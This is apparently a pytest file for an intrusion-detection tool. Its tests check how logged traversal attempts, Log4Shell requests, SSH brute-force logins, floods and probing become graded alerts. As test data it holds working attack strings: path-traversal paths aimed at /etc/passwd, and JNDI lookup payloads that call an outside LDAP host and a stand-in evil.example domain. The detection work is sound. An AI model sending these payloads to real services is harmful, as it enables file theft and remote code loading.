"""From connections to alerts: what is said of a client, and what must not be said."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from tests.detect.conftest import BAD, SERVER, START, STRANGER, connections, knowledge, service, vulnerability

from vedette.detect.alerts import alerts_of
from vedette.detect.kernel import Knowledge, correlate
from vedette.detect.rules.matching import RuleSet
from vedette.model.alert import Alert, Called, HypothesisName, Kind, Outcome, Severity, Verdict
from vedette.model.service import VersionSource
from vedette.model.vulnerability import State

TRAVERSAL = "/static/../../../../etc/passwd"
AIOHTTP = "CVE-2024-23334"
LOG4SHELL = "CVE-2021-44228"
JNDI = {"path": "/", "user_agent": "${jndi:ldap://198.51.100.77:1389/a}", "status": 200, "bytes_out": 500}
PASSWD = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"


def judged(known: Knowledge, *rows: dict[str, Any]) -> list[Alert]:
    return alerts_of(correlate(connections(*rows), known), known)


def only(alerts: list[Alert]) -> Alert:
    assert len(alerts) == 1
    return alerts[0]


def test_an_exploit_that_holds_for_the_service_is_an_incident_with_its_vulnerability(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules, vulnerability(AIOHTTP)), {"path": TRAVERSAL, "status": 500}))
    assert (alert.kind, alert.verdict) == (Kind.INCIDENT, Verdict.ATTEMPT_VULNERABLE)
    assert alert.attacked_vulnerability == AIOHTTP
    assert alert.outcome is Outcome.ATTEMPTED


def test_the_same_exploit_by_a_client_on_no_list_is_an_exploit_finding(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    alert = only(judged(known, {"client_ip": STRANGER, "path": TRAVERSAL, "status": 404}))
    assert alert.kind is Kind.EXPLOIT_FINDING
    assert alert.client is not None
    assert not alert.client.reputation.listed


def test_a_stranger_who_does_nothing_is_not_told(rules: RuleSet) -> None:
    assert judged(knowledge(rules), {"client_ip": STRANGER, "path": "/", "status": 200}) == []


def test_a_client_in_the_home_networks_is_not_external(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP), listed=("10.1.2.3",))
    assert judged(known, {"client_ip": "10.1.2.3", "path": TRAVERSAL, "status": 200, "bytes_out": 2000}) == []


def test_a_private_client_outside_the_home_networks_is_external_and_can_be_listed(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP), listed=("10.1.2.3",), home=("172.16.0.0/12",))
    alert = only(judged(known, {"client_ip": "10.1.2.3", "path": TRAVERSAL, "status": 404}))
    assert alert.kind is Kind.INCIDENT


def test_a_listed_client_that_touched_nothing_of_the_inventory_is_counted_and_not_told(
    rules: RuleSet,
) -> None:
    known = knowledge(rules)
    sightings = correlate(connections({"server_port": 9999}, {"server_ip": "192.0.2.99"}), known)
    assert alerts_of(sightings, known) == []
    assert sightings.listed.rows() == [(BAD, 2)]


@pytest.mark.parametrize("status", [400, 401, 403, 404])
def test_a_refused_exploit_is_blocked_and_no_success_whatever_its_size(rules: RuleSet, status: int) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    alert = only(judged(known, {"path": TRAVERSAL, "status": status, "bytes_out": 5000}))
    assert alert.outcome is Outcome.BLOCKED
    assert alert.verdict is Verdict.ATTEMPT_VULNERABLE


def test_five_bytes_are_no_leak(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    alert = only(judged(known, {"path": TRAVERSAL, "status": 200, "bytes_out": 5}))
    assert alert.outcome is Outcome.ATTEMPTED


def test_an_answer_of_plausible_size_from_a_vulnerable_service_is_a_likely_success(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    alert = only(judged(known, {"path": TRAVERSAL, "status": 200, "bytes_out": 1842}))
    assert (alert.verdict, alert.outcome) == (Verdict.COMPROMISED, Outcome.LIKELY_SUCCESSFUL)
    assert alert.severity is Severity.CRITICAL
    assert "/etc/passwd" in alert.what
    assert "1,842 bytes" in alert.what


def test_the_same_answer_from_a_service_without_the_flaw_claims_nothing(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules), {"path": TRAVERSAL, "status": 200, "bytes_out": 1842}))
    assert alert.verdict is Verdict.ATTEMPT_NOT_AFFECTED
    assert "successful" not in alert.outcome


def test_a_page_that_answers_everything_with_one_size_is_no_leak(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    page = {"status": 200, "bytes_out": 1842}
    alert = only(judged(known, {"path": "/", **page}, {"path": TRAVERSAL, **page}))
    assert alert.outcome is Outcome.ATTEMPTED


def test_one_size_for_two_different_files_is_no_leak(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    page = {"status": 200, "bytes_out": 1842}
    other = TRAVERSAL.replace("passwd", "shadow")
    alert = only(judged(known, {"path": TRAVERSAL, **page}, {"path": other, **page}))
    assert alert.outcome is Outcome.ATTEMPTED


def test_stolen_content_in_the_answer_confirms_success_whatever_the_version_says(rules: RuleSet) -> None:
    row = {"path": TRAVERSAL, "status": 200, "bytes_out": len(PASSWD), "response": PASSWD}
    alert = only(judged(knowledge(rules), row))
    assert (alert.verdict, alert.outcome) == (Verdict.COMPROMISED, Outcome.CONFIRMED_SUCCESSFUL)
    assert alert.severity is Severity.CRITICAL


def test_an_answer_that_only_echoes_the_request_proves_nothing(rules: RuleSet) -> None:
    line = PASSWD.splitlines()[0]
    row = {
        "path": f"{TRAVERSAL}?q={line}",
        "status": 200,
        "bytes_out": 2000,
        "response": f"<p>You asked for {line}",
    }
    alert = only(judged(knowledge(rules, vulnerability(AIOHTTP)), row))
    assert "successful" not in alert.outcome


def test_content_that_was_seen_and_is_harmless_overrules_the_size(rules: RuleSet) -> None:
    row = {"path": TRAVERSAL, "status": 200, "bytes_out": 2000, "response": "<html>Welcome</html>"}
    alert = only(judged(knowledge(rules, vulnerability(AIOHTTP)), row))
    assert alert.outcome is Outcome.ATTEMPTED


def call(**changes: Any) -> dict[str, Any]:
    """A connection that the server itself opens, a minute later."""
    return {
        "client_ip": SERVER,
        "server_ip": "198.51.100.77",
        "server_port": 1389,
        "protocol": "ldap",
        "time": START + timedelta(minutes=1),
        "source": "flows.pcap",
    } | changes


def test_a_call_of_the_server_to_what_the_request_named_confirms_success(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), JNDI, call()))
    assert (alert.verdict, alert.outcome) == (Verdict.COMPROMISED, Outcome.CONFIRMED_SUCCESSFUL)
    assert any("198.51.100.77:1389" in item.shows for item in alert.evidence)
    assert [item.called for item in alert.evidence if item.called] == [Called("198.51.100.77", 1389)]


def test_a_call_by_name_to_what_the_request_named_counts_in_whatever_case_and_port(rules: RuleSet) -> None:
    named = {**JNDI, "user_agent": "${jndi:ldap://x.evil.example/a}"}
    by_name = call(server_ip="192.0.2.53", server_port=53, protocol="dns", host="X.Evil.Example:53")
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), named, by_name))
    assert alert.outcome is Outcome.CONFIRMED_SUCCESSFUL
    assert "looked up X.Evil.Example:53" in alert.evidence[0].shows
    assert not any(item.called for item in alert.evidence), "the resolver is not whom it calls"


def test_without_an_inventory_calls_of_all_home_hosts_are_watched(rules: RuleSet) -> None:
    known = knowledge(rules, services=(), home=("192.0.2.0/24",))
    alert = only(judged(known, JNDI, call()))
    assert alert.verdict is Verdict.COMPROMISED


def test_a_call_that_came_before_the_request_is_not_its_effect(rules: RuleSet) -> None:
    early = call(time=START - timedelta(minutes=1))
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), JNDI, early))
    assert "successful" not in alert.outcome


def test_a_call_to_somebody_else_proves_nothing(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), JNDI, call(server_ip="198.51.100.78")))
    assert alert.outcome is Outcome.ATTEMPTED


def test_a_call_at_a_time_that_no_source_says_counts(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), JNDI, call(time=None)))
    assert alert.outcome is Outcome.CONFIRMED_SUCCESSFUL


def test_a_vulnerability_of_which_nobody_can_say_whether_it_holds_is_neither_good_nor_critical(
    rules: RuleSet,
) -> None:
    tomcat = service(product="Apache Tomcat", version="9.0.50", purl=None)
    known = knowledge(rules, vulnerability(LOG4SHELL, State.UNKNOWN, kev=True, cvss=10.0), services=(tomcat,))
    alert = only(judged(known, JNDI))
    assert alert.verdict is Verdict.ATTEMPT_VULNERABLE
    assert alert.kind is Kind.REPUTATION_FINDING
    assert alert.severity is Severity.HIGH
    assert "not known" in alert.why


def test_a_known_exploited_flaw_attacked_and_not_refused_is_critical(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL, kev=True)), JNDI))
    assert alert.severity is Severity.CRITICAL


def test_a_version_that_is_not_verified_is_said_to_be_so_and_is_not_critical(rules: RuleSet) -> None:
    banner = service(version_source=VersionSource.BANNER)
    known = knowledge(rules, vulnerability(LOG4SHELL, kev=True), services=(banner,))
    alert = only(judged(known, JNDI))
    assert alert.severity is Severity.HIGH
    assert "unverified" in alert.why


def test_an_exploit_of_a_sibling_is_not_laid_to_the_flaw_that_needs_another_request(rules: RuleSet) -> None:
    httpd = service(product="Apache HTTP Server", version="2.4.50", purl=None)
    known = knowledge(rules, vulnerability("CVE-2021-42013", cwes=("CWE-22",)), services=(httpd,))
    alert = only(judged(known, {"path": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "status": 400}))
    assert alert.verdict is Verdict.ATTEMPT_NOT_AFFECTED
    assert alert.attacked_vulnerability == "CVE-2021-41773"


def test_a_sensor_that_names_the_vulnerability_is_evidence(rules: RuleSet) -> None:
    row = {
        "protocol": None,
        "notice": "CVE_2021_44228::LOG4J_ATTEMPT_HEADER",
        "message": "Possible Log4j exploit",
        "time": None,
    }
    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), row))
    assert alert.attacked_vulnerability == LOG4SHELL
    assert alert.verdict is Verdict.ATTEMPT_VULNERABLE
    assert alert.first_seen is None
    assert "does not say" in alert.when


def test_many_failed_logins_and_then_an_accepted_one_are_a_likely_success_even_of_a_stranger(
    rules: RuleSet,
) -> None:
    ssh = service(product="openssh", port=22, protocol="ssh", version="9.2p1", purl=None)
    known = knowledge(rules, services=(ssh,))
    login = {"client_ip": STRANGER, "server_ip": None, "server_port": None, "protocol": "ssh", "user": "root"}
    failed = [{**login, "event": "login-failed"}] * 25
    alert = only(judged(known, *failed, {**login, "event": "login-accepted"}))
    assert (alert.kind, alert.outcome) == (Kind.EXPLOIT_FINDING, Outcome.LIKELY_SUCCESSFUL)
    assert "root" in alert.what


def test_an_owner_who_mistypes_once_is_not_told(rules: RuleSet) -> None:
    ssh = service(product="openssh", port=22, protocol="ssh", version="9.2p1", purl=None)
    login = {"client_ip": STRANGER, "server_ip": None, "server_port": None, "protocol": "ssh"}
    rows = ({**login, "event": "login-failed"}, {**login, "event": "login-accepted"})
    assert judged(knowledge(rules, services=(ssh,)), *rows) == []


def test_a_flood_weighs_for_denial_of_service(rules: RuleSet) -> None:
    rows = [{"path": "/", "status": 503, "time": START}] * 1500
    alert = only(judged(knowledge(rules), *rows))
    assert alert.hypotheses[0].name is HypothesisName.DENIAL_OF_SERVICE
    assert "1500 connections in one minute" in alert.hypotheses[0].reasons
    assert alert.connections == 1500


def test_many_missing_pages_weigh_for_probing(rules: RuleSet) -> None:
    rows = [{"path": f"/guess-{n}", "status": 404} for n in range(40)]
    alert = only(judged(knowledge(rules), *rows))
    assert alert.hypotheses[0].name is HypothesisName.PROBING
    assert alert.verdict is Verdict.RECONNAISSANCE


def test_a_client_that_comes_back_after_days_makes_a_second_alert_with_an_id_of_its_own(
    rules: RuleSet,
) -> None:
    first, second = judged(knowledge(rules), {"path": "/"}, {"path": "/", "time": START + timedelta(days=3)})
    assert first.id != second.id


def test_the_same_input_gives_the_same_alerts(rules: RuleSet) -> None:
    known = knowledge(rules, vulnerability(AIOHTTP))
    rows = ({"path": TRAVERSAL, "status": 404}, {"path": "/", "status": 200})
    assert judged(known, *rows) == judged(known, *rows)


def test_a_database_bound_to_the_world_is_a_posture_finding_without_a_client(rules: RuleSet) -> None:
    redis = service(
        id="web-1/redis:6379/tcp", product="redis", version="7.0.15", port=6379, protocol="redis", purl=None
    )
    alert = only(judged(knowledge(rules, services=(redis,))))
    assert (alert.kind, alert.verdict, alert.client) == (Kind.POSTURE_FINDING, None, None)


@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.5", "::1", None])
def test_a_database_bound_to_an_inner_address_is_none(rules: RuleSet, address: str | None) -> None:
    redis = service(product="redis", port=6379, protocol="redis", purl=None, listen_address=address)
    assert judged(knowledge(rules, services=(redis,))) == []


def test_without_an_inventory_connections_imply_services_of_which_nothing_is_known(rules: RuleSet) -> None:
    alert = only(judged(knowledge(rules, services=()), {"path": "/", "status": 200}))
    assert alert.kind is Kind.REPUTATION_FINDING
    assert (alert.service.host, alert.service.port, alert.service.version) == (SERVER, 8080, None)


def test_an_attack_whose_log_does_not_name_the_service_is_laid_to_the_one_it_can_hurt(rules: RuleSet) -> None:
    harmless = service(id="web-1/nginx:80/tcp", product="nginx", port=80, purl=None)
    known = knowledge(rules, vulnerability(AIOHTTP), services=(harmless, service()))
    alert = only(judged(known, {"server_ip": None, "server_port": None, "path": TRAVERSAL, "status": 404}))
    assert "assumed" in alert.where
